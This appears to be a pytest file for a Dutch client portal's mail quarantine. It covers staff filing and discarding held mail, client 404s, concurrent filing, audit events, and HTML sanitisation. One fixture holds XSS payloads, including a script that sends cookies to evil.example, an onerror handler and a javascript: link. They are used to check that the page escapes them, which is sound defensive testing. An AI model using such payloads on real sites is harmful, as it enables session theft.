"""Staff file quarantined mail with one click: the web page and `loket mail quarantine` say
why each mail waits and which dossier it named, and the button (or `loket mail file ID`)
files it there. Clients never see the page."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from sqlalchemy import select

from core.db import Database
from core.errors import ValidationError
from core.models import AuditEvent, InboundMail, Message
from core.storage import LocalFileStore
from mailbridge.filing import QuarantineFiler, file_from_quarantine
from mailbridge.pipeline import Pipeline

from .conftest import PASSWORD, SYSTEM, Firm, mail_settings, set_password
from .mails import AUTHSERV, reply_mail
from .webclient import Browser


@pytest.fixture
def settings(tmp_path: Path):
    return mail_settings(tmp_path, public_url="http://127.0.0.1", mail_authserv_id=AUTHSERV)


@pytest.fixture
async def staff_web(aiohttp_client, db: Database, store: LocalFileStore, settings) -> Browser:
    """The web view as `loket serve` wires it: with the mail bridge's filer."""
    from web.app import create_app

    app = create_app(settings, db, store, mail_filer=QuarantineFiler(db, store, settings))
    return Browser(await aiohttp_client(app))


async def held(
    db: Database, store, settings, subject: str, sender: str = "alice@example.nl", **mail
) -> int:
    """A mail to the firm's general address, with no one vouching for its sender."""
    raw = reply_mail(
        sender=sender, to="portaal@kantoor.example", subject=subject, verified_by=None, **mail
    )
    result = await Pipeline(db, store, settings).handle(raw)
    assert result.outcome == "quarantined"
    return result.inbound_id


async def logged_in(web: Browser, db: Database, account) -> None:
    await set_password(db, account.id)
    await web.login(account.username, PASSWORD)


async def incoming(db: Database) -> list[Message]:
    async with db.read() as s:
        return list(await s.scalars(select(Message).where(Message.direction == "incoming")))


async def test_staff_see_why_and_file_into_the_suggested_dossier_with_one_post(
    staff_web: Browser, db: Database, store: LocalFileStore, settings, firm: Firm
) -> None:
    inbound_id = await held(db, store, settings, "Re: [2026-0001] Uw aangifte", text="Hierbij.")
    await logged_in(staff_web, db, firm.staff)
    assert 'href="/staff/quarantine"' in staff_web.last_html  # in the staff menu
    response = await staff_web.get("/staff/quarantine")
    assert response.status == 200
    page = staff_web.last_html
    assert "alice@example.nl" in page and "Re: [2026-0001] Uw aangifte" in page
    assert "De afzender kon niet worden gecontroleerd" in page
    assert "Plaatsen in 2026-0001" in page and 'name="dossier"' not in page

    response = await staff_web.post(f"/staff/quarantine/{inbound_id}/file", allow_redirects=False)
    assert response.status == 303
    await staff_web.get(response.headers["Location"])
    assert "De e-mail is geplaatst in dossier 2026-0001." in staff_web.last_html
    assert "Plaatsen in" not in staff_web.last_html  # nothing waits any more
    [message] = await incoming(db)
    assert (message.dossier_id, message.author_id, message.body) == (
        firm.alice_1.id,
        firm.alice.id,
        "Hierbij.",
    )


async def test_mail_that_names_no_dossier_is_filed_where_staff_say(
    staff_web: Browser, db: Database, store: LocalFileStore, settings, firm: Firm
) -> None:
    inbound_id = await held(db, store, settings, "Akte", sender="notaris@elders.example")
    await logged_in(staff_web, db, firm.staff)
    await staff_web.get("/staff/quarantine")
    assert "Geen dossier gevonden voor deze e-mail." in staff_web.last_html
    assert 'name="dossier"' in staff_web.last_html
    target = f"/staff/quarantine/{inbound_id}/file"

    empty = await staff_web.post(target, {"dossier": " "})
    assert empty.status == 400
    assert f"E-mail {inbound_id} noemt geen dossier" in staff_web.last_html
    unknown = await staff_web.post(target, {"dossier": "9999-0000"})
    assert unknown.status == 404 and "Dossier 9999-0000 is niet gevonden." in staff_web.last_html
    assert await incoming(db) == []

    filed = await staff_web.post(target, {"dossier": "2026-0100"}, allow_redirects=False)
    assert filed.status == 303
    [message] = await incoming(db)
    assert (message.dossier_id, message.author_id) == (firm.bv_1.id, None)


async def test_a_client_gets_404_on_the_page_and_the_button(
    staff_web: Browser, db: Database, store: LocalFileStore, settings, firm: Firm
) -> None:
    inbound_id = await held(db, store, settings, "[2026-0001] hallo")
    await logged_in(staff_web, db, firm.alice)
    assert "/staff/quarantine" not in staff_web.last_html
    assert (await staff_web.get("/staff/quarantine")).status == 404
    assert "alice@example.nl" not in staff_web.last_html
    await staff_web.get("/")
    response = await staff_web.post(f"/staff/quarantine/{inbound_id}/file")
    assert response.status == 404
    assert await incoming(db) == []
    async with db.read() as s:
        assert (await s.get(InboundMail, inbound_id)).outcome == "quarantined"


async def test_filing_twice_at_once_files_once(
    db: Database, store: LocalFileStore, settings, firm: Firm
) -> None:
    inbound_id = await held(db, store, settings, "[2026-0001] dubbelklik")
    results = await asyncio.gather(
        *(file_from_quarantine(db, store, settings, SYSTEM, inbound_id) for _ in range(2)),
        return_exceptions=True,
    )
    assert sorted(type(r).__name__ for r in results) == ["Filed", "ValidationError"]
    assert "not in quarantine" in str(next(r for r in results if isinstance(r, ValidationError)))
    assert len(await incoming(db)) == 1


def test_the_cli_lists_why_and_files_into_the_suggested_dossier(tmp_path: Path) -> None:
    from .test_cli import Loket, _quarantine

    loket = Loket(tmp_path / "data")
    loket("init")
    client = loket.json("client", "add", "--name", "Alice", "--email", "alice@example.nl")
    loket("dossier", "add", "--number", "D1", "--description", "d", "--client", str(client["id"]))
    for subject in ("Re: [D1] vraag", "Los bericht"):
        mail = reply_mail(sender="alice@example.nl", to="loket@localhost", subject=subject)
        _quarantine(loket, mail)
    unmatched, forged = loket.json("mail", "quarantine")  # the newest first
    assert (forged["suggested_dossier"], forged["reason"]) == (
        "D1",
        "sender not verified: matched by subject only; LOKET_MAIL_AUTHSERV_ID is not set,"
        " so no DKIM/DMARC pass is trusted",
    )
    assert unmatched["suggested_dossier"] is None
    human = loket("mail", "quarantine").stdout
    assert "why: sender not verified" in human and "file into D1" in human

    filed = loket.json("mail", "file", str(forged["id"]))
    assert filed["dossier"] == "D1" and filed["message_id"]
    refused = loket("mail", "file", str(unmatched["id"]), ok=False)
    assert f"Mail {unmatched['id']} names no dossier: give a dossier number." in refused.stderr
    assert [w["id"] for w in loket.json("mail", "quarantine")] == [unmatched["id"]]


HOSTILE = (
    "<html><head><style>body{display:none}</style><script>alert('head')</script></head><body>"
    "<p>Beste kantoor,</p><p>Zie de <b>bijlage</b>.</p>"
    '<img src="https://tracker.example/p.gif" onerror="alert(1)">'
    "<script>document.location='https://evil.example/?'+document.cookie</script>"
    '<a href="javascript:alert(2)">klik</a><iframe src="https://evil.example"></iframe>'
    "<p>&lt;script&gt;niet uitvoeren&lt;/script&gt;</p></body></html>"
)


def html_only_mail(subject: str) -> bytes:
    from email.message import EmailMessage

    msg = EmailMessage()
    msg["From"] = "onbekend@elders.example"
    msg["To"] = "portaal@kantoor.example"
    msg["Subject"] = subject
    msg["Message-ID"] = "<hostile-1@elders.example>"
    msg.set_content(HOSTILE, subtype="html")
    msg.add_attachment(
        b"%PDF-1.4 x" * 100, maintype="application", subtype="pdf", filename="factuur.pdf"
    )
    msg.add_attachment(b"<script>x</script>", maintype="text", subtype="html", filename="a.html")
    return msg.as_bytes()


async def test_a_hostile_html_mail_is_shown_as_text_with_its_attachments_listed(
    staff_web: Browser, db: Database, store: LocalFileStore, settings, firm: Firm
) -> None:
    result = await Pipeline(db, store, settings).handle(html_only_mail("<b>Factuur</b>"))
    assert result.outcome == "quarantined"
    await logged_in(staff_web, db, firm.staff)
    response = await staff_web.get(f"/staff/quarantine/{result.inbound_id}")
    assert response.status == 200
    page = staff_web.last_html[staff_web.last_html.index("<main>") :]
    original = page[page.index('data-testid="original"') : page.index('data-testid="attachments"')]
    assert "Beste kantoor," in original and "Zie de bijlage." in original
    # Nothing of the mail's markup reaches the page as markup: no tag, handler or address.
    for hostile in ("<script", "<img", "<iframe", "onerror", "javascript:", "tracker.example"):
        assert hostile not in page, hostile
    assert "&lt;script&gt;niet uitvoeren&lt;/script&gt;" in original  # text stays text
    assert "&lt;b&gt;Factuur&lt;/b&gt;" in page  # the subject, too
    listed = page[page.index('data-testid="attachments"') :]
    assert "factuur.pdf" in listed and "application/pdf" in listed and "1,000 bytes" in listed
    assert "a.html" in listed and "text/html" in listed
    assert "/download" not in listed  # listed, never opened from here


async def test_filed_from_the_mail_page_into_a_dossier_found_by_search(
    staff_web: Browser, db: Database, store: LocalFileStore, settings, firm: Firm
) -> None:
    inbound_id = await held(db, store, settings, "Re: [2026-0001] stukken", text="Voor de BV.")
    await logged_in(staff_web, db, firm.staff)
    await staff_web.get(f"/staff/quarantine/{inbound_id}")
    page = staff_web.last_html
    # The suggested dossier is offered first, before any search.
    assert 'data-testid="candidate-2026-0001"' in page and "Voorgesteld" in page
    await staff_web.get(f"/staff/quarantine/{inbound_id}?q=bakkerij")
    page = staff_web.last_html
    assert page.index("candidate-2026-0001") < page.index("candidate-2026-0100")
    assert "candidate-2026-0200" not in page
    filed = await staff_web.post(
        f"/staff/quarantine/{inbound_id}/file",
        {"dossier": "2026-0100", "from": "mail"},
        allow_redirects=False,
    )
    assert filed.status == 303
    [message] = await incoming(db)
    assert (message.dossier_id, message.body) == (firm.bv_1.id, "Voor de BV.")
    async with db.read() as s:
        row = await s.get(InboundMail, inbound_id)
        events = list(await s.scalars(select(AuditEvent).where(AuditEvent.action == "mail.file")))
    assert row.outcome == "stored" and row.dossier_id == firm.bv_1.id
    assert [(e.actor_id, e.channel, e.dossier_id) for e in events] == [
        (firm.staff.id, "web", firm.bv_1.id)
    ]
    # Filed once: the page of a mail no longer in quarantine says so.
    again = await staff_web.post(
        f"/staff/quarantine/{inbound_id}/file", {"dossier": "2026-0100", "from": "mail"}
    )
    assert again.status == 400 and "niet in quarantaine" in staff_web.last_html


async def test_discarded_mail_is_kept_for_the_audit_and_not_listed_again(
    staff_web: Browser, db: Database, store: LocalFileStore, settings, firm: Firm
) -> None:
    inbound_id = await held(db, store, settings, "Gratis vakantie", sender="spam@elders.example")
    await logged_in(staff_web, db, firm.staff)
    await staff_web.get(f"/staff/quarantine/{inbound_id}")
    response = await staff_web.post(
        f"/staff/quarantine/{inbound_id}/discard", allow_redirects=False
    )
    assert response.status == 303
    await staff_web.get(response.headers["Location"])
    assert "De e-mail is weggegooid" in staff_web.last_html
    assert "Gratis vakantie" not in staff_web.last_html
    async with db.read() as s:
        row = await s.get(InboundMail, inbound_id)
        [event] = await s.scalars(select(AuditEvent).where(AuditEvent.action == "mail.discard"))
    assert (
        row.outcome == "discarded" and row.raw_storage_key and row.path[-1] == "discarded by staff"
    )
    assert (event.actor_id, event.channel, event.subject_id) == (firm.staff.id, "web", inbound_id)
    assert event.details == {"sender": "spam@elders.example"}
    assert await incoming(db) == []
    # Neither filed nor discarded twice, nor shown again by its address.
    assert (await staff_web.get(f"/staff/quarantine/{inbound_id}")).status == 400
    assert (await staff_web.post(f"/staff/quarantine/{inbound_id}/discard")).status == 400
    assert (await staff_web.post(f"/staff/quarantine/{inbound_id}/file")).status == 400
    assert await incoming(db) == []


async def test_staff_can_show_the_original_of_a_filed_mail_and_a_client_cannot(
    staff_web: Browser, aiohttp_client, db: Database, store: LocalFileStore, settings, firm: Firm
) -> None:
    """The filed text is the client's words as the bridge cut them; the mail as it came in
    stays one click away for staff, so a cut that went wrong loses nothing."""
    from web.app import create_app

    quoted = "Op di 24 nov 2026 om 10:12 schreef Kantoor <portaal@kantoor.example>:\n> Vraag?"
    raw = reply_mail(
        sender="alice@example.nl",
        to="portaal@kantoor.example",
        subject="Re: [2026-0001] Uw aangifte",
        text="Hierbij.\n\nMet vriendelijke groet,\nAlice\nT 06-12345678",
        quoted=quoted,
    )
    result = await Pipeline(db, store, settings).handle(raw)
    assert result.outcome == "stored"
    [message] = await incoming(db)
    assert message.body == "Hierbij.\n\nMet vriendelijke groet,\nAlice"

    await logged_in(staff_web, db, firm.staff)
    await staff_web.get(f"/messages/{message.id}")
    assert f'href="/messages/{message.id}/original"' in staff_web.last_html
    shown = await staff_web.get(f"/messages/{message.id}/original")
    assert shown.status == 200
    assert shown.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert await shown.read() == raw  # signature and quote included, as it came

    client = Browser(await aiohttp_client(create_app(settings, db, store)))
    await logged_in(client, db, firm.alice)
    await client.get(f"/messages/{message.id}")
    assert "Hierbij." in client.last_html and "/original" not in client.last_html
    assert (await client.get(f"/messages/{message.id}/original")).status == 404
